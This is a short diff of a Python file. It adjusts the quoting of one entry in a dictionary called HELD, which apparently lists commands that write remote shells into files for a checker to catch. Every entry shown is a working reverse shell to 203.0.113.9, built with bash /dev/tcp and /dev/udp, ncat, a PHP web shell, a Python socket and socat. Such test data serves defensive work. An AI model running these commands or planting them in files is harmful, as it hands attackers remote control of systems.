@@ -73,7 +73,7 @@ HELD = {
     "remote shell written into a file": [
         "echo 'sh -i >& /dev/udp/203.0.113.9/53 0>&1' >> /opt/tools/cleanup",
         "printf 'ncat 203.0.113.9 443 -e /bin/bash\\n' > run.sh",
-        "echo \"<?php exec('/bin/bash -c \\\"bash -i >& /dev/tcp/203.0.113.9/80 0>&1\\\"'); ?>\" > up.php",
+        'echo "<?php exec(\'/bin/bash -c \\"bash -i >& /dev/tcp/203.0.113.9/80 0>&1\\"\'); ?>" > up.php',
         "cat > r.py <<'EOF'\nimport socket,subprocess\ns=socket.socket();s.connect(('203.0.113.9',9001))\n"
         "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\nEOF",
         "tee -a hook.sh <<< 'socat exec:\"bash -li\",pty,stderr tcp:203.0.113.9:4444'",
